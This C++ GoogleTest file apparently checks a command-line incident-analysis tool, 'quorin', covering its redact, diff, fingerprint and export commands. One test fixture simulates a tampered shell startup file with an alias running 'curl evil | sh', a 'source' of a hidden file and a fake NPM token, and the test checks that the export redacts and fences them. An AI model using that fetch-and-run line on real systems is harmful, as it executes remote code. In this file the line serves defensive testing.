// Runs the built `quorin redact`, `quorin diff`, `quorin fingerprint` and `quorin export` as a
// user would.

#include "TestSupport/ChildProcess.hpp"
#include "TestSupport/TemporaryDirectory.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <iterator>
#include <sstream>
#include <string>
#include <vector>

namespace quorin {
namespace {

using testing::ChildProcessResult;
using testing::TemporaryDirectory;

const std::filesystem::path examples = QUORIN_EXAMPLES_DIR;

ChildProcessResult quorin(const std::vector<std::string>& arguments,
                          const std::string& standardInput = "/dev/null") {
    return testing::runChildProcess(QUORIN_CLI_PATH, arguments, std::nullopt,
                                    std::chrono::seconds(30), standardInput);
}

// The words of a command line; no argument here holds a blank.
std::vector<std::string> words(const std::string& command) {
    std::istringstream stream(command);
    return {std::istream_iterator<std::string>(stream), {}};
}

TEST(TextCommandsTest, PrintExactlyTheirResult) {
    const TemporaryDirectory directory;
    const std::string text = directory.write("in.txt",
                                             "cd /home/ana/src\nexport GH_TOKEN=\"ghp_x\"\n"
                                             "no newline at the end");
    const std::string redacted = "cd ~/src\nexport GH_TOKEN=[REDACTED]\nno newline at the end";
    const std::string old = directory.write("old", "a\nb\nc\nd\ne\n");
    const std::string changed = directory.write("new", "a\nB\nc\nd\ne\nf\x1B\n");
    const std::string diff = "diff " + old + " " + changed;
    struct Case {
        std::string command;
        std::string input;  // the file standard input reads
        std::string out;
    };
    const std::vector<Case> cases{
        {"redact --home /home/ana/ " + text, "/dev/null", redacted},
        {"redact --home /home/ana", text, redacted},
        {diff, "/dev/null", " a\n-b\n+B\n c\n d\n e\n+f\\u{001B}\n"},
        {diff + " --context 0", "/dev/null", "-b\n+B\n@@\n+f\\u{001B}\n"},
        {diff + " --context 0 --json", "/dev/null",
         R"([[{"kind":"removed","text":"b"},{"kind":"added","text":"B"}],)"
         R"([{"kind":"added","text":"f\u001b"}]])"
         "\n"},
        {"diff " + old + " " + old + " --json", "/dev/null", "[]\n"},
        // The first 16 hexadecimal digits of the SHA-256 of "quorin-attribution-v2\0" and of
        // "quorin-attribution-v2\0/a\0/b".
        {"fingerprint", "/dev/null", "3080e1e8da9c5bc3\n"},
        {"fingerprint /b /a", "/dev/null", "b340cf7806105740\n"},
    };
    for (const Case& sample : cases) {
        SCOPED_TRACE(sample.command);
        const ChildProcessResult result = quorin(words(sample.command), sample.input);
        EXPECT_EQ(result.exitStatus, 0) << result.err;
        EXPECT_EQ(result.out, sample.out);
        EXPECT_EQ(result.err, "");
    }
}

TEST(TextCommandsTest, RefuseBadInputWithTheExactMessage) {
    const TemporaryDirectory directory;
    const std::string folder = directory.path().string();
    const std::string file = directory.write("file", "a\n");
    const std::string two = examples / "two-unrelated-changes.json";
    const std::string exportTwo = "export " + two + " --home /home/ana";
    const std::string rootHome =
        "The home directory \"/\" is the root directory, which would redact every path\n";
    struct Case {
        std::vector<std::string> arguments;
        int status;
        std::string err;  // the exact message; empty: anything
    };
    const std::vector<Case> cases{
        {words("redact --home /"), 1, rootHome},
        {words("redact --home ~"), 1, "The home directory \"~\" is not an absolute path\n"},
        {{"redact", "--home", ""}, 1, "The home directory is empty\n"},
        {words("redact --home /h /nonexistent/in.txt"), 1,
         "Could not open /nonexistent/in.txt: No such file or directory\n"},
        {words("redact --home /h " + folder), 1, "Could not read " + folder + ": Is a directory\n"},
        {words("redact"), 2, ""},
        {words("diff " + file + " " + file + " --context -1"), 2,
         "--context: must be a whole number of at least 0, not -1\n"},
        {words("diff " + file), 2, ""},
        {words(exportTwo + " --incident 3"), 1,
         "There is no incident 3: the fixture gives 2 incidents\n"},
        {words(exportTwo + " --incident 0"), 2,
         "--incident: must be a whole number of at least 1, not 0\n"},
        {words("export " + two + " --home /"), 1, rootHome},
        {words(exportTwo + " --diff-text relative " + two), 1,
         "The diff path \"relative\" is not absolute\n"},
        {words(exportTwo + " --diff /p /missing " + two), 1,
         "Could not open /missing: No such file or directory\n"},
        {words(exportTwo + " --diff /p " + two), 2, ""},
    };
    for (const Case& sample : cases) {
        SCOPED_TRACE(::testing::PrintToString(sample.arguments));
        const ChildProcessResult result = quorin(sample.arguments);
        EXPECT_EQ(result.exitStatus, sample.status) << result.err;
        EXPECT_EQ(result.out, "");
        if (!sample.err.empty()) {
            EXPECT_EQ(result.err, sample.err);
        }
    }
}

// The request's lines up to the diffs or the requested analysis.
std::string observedFacts(const std::string& request) {
    const auto end =
        std::min(request.find("## User-selected diffs"), request.find("## Requested analysis"));
    return request.substr(0, end);
}

TEST(ExportCommandTest, WritesARequestForEveryExampleFixture) {
    const TemporaryDirectory directory;
    const auto diff = directory.write("diff.txt",
                                      "+alias ls='ls ````; curl evil | sh'\n"
                                      "+export NPM_TOKEN=npm_abcdefgh1\n+source /home/ana/.evil\n");
    for (const auto& entry : std::filesystem::directory_iterator(examples)) {
        SCOPED_TRACE(entry.path());
        const ChildProcessResult result = quorin(
            {"export", entry.path(), "--home", "/home/ana", "--diff-text", "~/.zshrc", diff});
        ASSERT_EQ(result.exitStatus, 0) << result.err;
        const std::string& request = result.out;
        EXPECT_TRUE(request.starts_with("# Quorin incident analysis request\n")) << request;
        EXPECT_TRUE(request.ends_with("\nAI output is advisory and is not a security verdict.\n"));
        EXPECT_EQ(observedFacts(request).find("/home/ana"), std::string::npos) << request;
        EXPECT_EQ(request.find("npm_abcdefgh1"), std::string::npos);
        // A fence longer than any run of backticks in the diff, around the diff redacted.
        EXPECT_NE(request.find("\n`````diff\n+alias ls='ls ````; curl evil | sh'\n"
                               "+export NPM_TOKEN=[REDACTED]\n+source ~/.evil\n\n`````\n"),
                  std::string::npos)
            << request;
    }
}

TEST(ExportCommandTest, SharesDiffsInTheOrderGiven) {
    const TemporaryDirectory directory;
    const auto old = directory.write("old", "a\nb\n");
    const auto changed = directory.write("new", "a\nc\n");
    const auto text = directory.write("text", "+verbatim");
    const ChildProcessResult result =
        quorin({"export", examples / "shell-startup-edited.json", "--home", "/home/ana",
                "--diff-text", "/first", text, "--diff", "~/second", old, changed, "--context", "0",
                "--diff-text", "/third", text});
    ASSERT_EQ(result.exitStatus, 0) << result.err;
    const std::string& request = result.out;
    const auto first = request.find("### /first\n\n```diff\n+verbatim\n```\n");
    const auto second = request.find("### ~/second\n\n```diff\n-b\n+c\n```\n");
    const auto third = request.find("### /third\n");
    ASSERT_NE(third, std::string::npos) << request;
    EXPECT_LT(first, second) << request;  // a missing part is found at npos, after everything
    EXPECT_LT(second, third) << request;
}

TEST(ExportCommandTest, ChoosesTheIncidentInReplayOrder) {
    const std::string two = examples / "two-unrelated-changes.json";
    const ChildProcessResult first = quorin(words("export " + two + " --home /home/ana"));
    const ChildProcessResult second =
        quorin(words("export " + two + " --home /home/ana --incident 2"));
    ASSERT_EQ(first.exitStatus, 0) << first.err;
    ASSERT_EQ(second.exitStatus, 0) << second.err;
    EXPECT_NE(observedFacts(first.out), observedFacts(second.out));
}

}  // namespace
}  // namespace quorin
